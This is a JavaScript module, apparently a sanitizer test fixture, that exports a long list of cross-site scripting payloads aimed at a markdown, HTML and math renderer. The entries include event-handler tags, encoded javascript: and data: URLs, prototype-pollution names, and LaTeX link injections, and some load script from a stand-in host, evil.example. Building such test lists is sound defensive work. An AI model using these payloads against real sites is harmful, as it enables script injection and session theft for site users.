/** Texts that try to become more than text. */

const scripts = [
    '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\n>alert(1)</script\n>',
    '<img src=x onerror=alert(1)>', '<img src="x" onerror="alert(1)"/>', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<img src=`javascript:alert(1)`>',
    '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<math href="javascript:alert(1)">x</math>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)">', '<embed src="javascript:alert(1)">', '<base href="//evil.example/">', '<link rel=stylesheet href=//evil.example/x.css>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<style>@import "//evil.example/x.css";</style>', '<div style="background:url(javascript:alert(1))">', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>',
    '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<form action="javascript:alert(1)"><button>x</button></form>', '<button formaction=javascript:alert(1)>x', '<isindex action=javascript:alert(1)>',
    '<a href="javascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="https://ok.example" onclick="alert(1)">x</a>', '<p onmouseover=alert(1)>x</p>', '<b/onclick=alert(1)>x', '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<!DOCTYPE x [<!ENTITY y "z">]>', '<br onclick=alert(1)>', '<br/ onclick=alert(1)>',
    '</p><script>alert(1)</script>', '"><script>alert(1)</script>', '\'-alert(1)-\'', '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\<script>alert(1)\\</script>', '<form id=x><input name=parentNode></form>', '<a id=Prism><a id=Prism name=tokenize>', '<img name=currentScript>',
];

const addresses = [
    'javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'java\tscript:alert(1)', ' javascript:alert(1)', 'javascript&#58;alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', '&#0000106avascript:alert(1)',
    'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript\\:alert(1)', '\\javascript:alert(1)', 'javascript:https://ok.example', 'javascript://https://ok.example/%0aalert(1)', '\u0001javascript:alert(1)', '\u00a0javascript:alert(1)',
    'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'data:image/svg+xml;base64,PHN2Zz4=', 'data:image/svg+xml,<svg onload=alert(1)>', 'data:image/png,notbase64"onerror=alert(1)', 'data:image/png;base64,AAAA" onerror="alert(1)', 'data:image/png;base64,AAAA#javascript:', 'DATA:IMAGE/PNG;BASE64,AAAA',
    'blob:https://x/1', 'file:///etc/passwd', 'ftp://x.example/', 'about:blank', 'view-source:https://x.example', 'intent://x#Intent;end', 'ws://x.example', '//evil.example/x', '/v1/models', '#top', '?q', 'relative.html', 'https:evil.example', 'https:/evil.example', 'https:\\\\evil.example',
    'https://a.example/"onclick="alert(1)', 'https://a.example/\'><script>alert(1)</script>', 'https://a.example/`onclick=alert(1)`', 'mailto:x@y.z?body=<script>', 'http://user:password@evil.example', 'tel:1', 'sms:1', 'chrome://settings', 'x:y', 'https://',
];

const names = [
    '```"><script>alert(1)</script>\nx\n```', '```js" onclick="alert(1)\nx\n```', '```<img src=x onerror=alert(1)>\nx\n```', '~~~ __proto__\nx\n~~~', '```constructor\nx\n```', '```__proto__\nx\n```', '```../../x\nlet a\n```',
    '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |', '- [ ] <input onfocus=alert(1) autofocus>', '- [x" onclick="alert(1)] y', '# <script>alert(1)</script>', '> <img src=x onerror=alert(1)>',
    '[__proto__]: https://x.example\n[__proto__] [constructor] [toString]', '[a]: javascript:alert(1)\n[a]', '[a]: <javascript:alert(1)>\n![a]', '[a]: https://x.example "\\" onclick=\\"alert(1)"\n[a]', '[x](https://x.example "\\"><script>alert(1)</script>")', '![" onerror="alert(1)](https://x.example/a.png)', '![<script>](data:image/png;base64,AAAA "<b>")',
    '$\\href{javascript:alert(1)}{x}$', '$$\\url{javascript:alert(1)}$$', '$\\htmlStyle{color:red}{x}$', '$\\htmlData{a=b}{x}$', '$\\includegraphics{https://evil.example/x.png}$', '\\(</math><script>alert(1)</script>\\)', '$$\n</code><img src=x onerror=alert(1)>\n$$', '$\\def\\a{\\a\\a}\\a$', '$\\rule{1000em}{1000em}$',
    '[![x](javascript:alert(1))](javascript:alert(1))', '[<img src=x onerror=alert(1)>](https://x.example)', '<https://x.example/"onclick="alert(1)>', '<javascript:alert(1)>', '<data:text/html,x>', '<mailto:x@y.z>', 'https://x.example/<script>alert(1)</script>', 'www.x.example/"onclick=alert(1)', 'a@b.c"onclick=alert(1)', '\u202Ehttps://x.example', '\u0000<script>alert(1)</script>', '<\u0000script>alert(1)</script>', '＜script＞alert(1)＜/script＞', '<ſcript>alert(1)</ſcript>', '1. <style onload=alert(1)>', '3333333333. x', '999999999. x',
];

export const attacks = [
    ...scripts, ...addresses.flatMap(address => [`[x](${address}) ![y](${address}) [z](<${address}>)`, `[r]\n\n[r]: <${address}>`, `<${address}>`]), ...names,
];
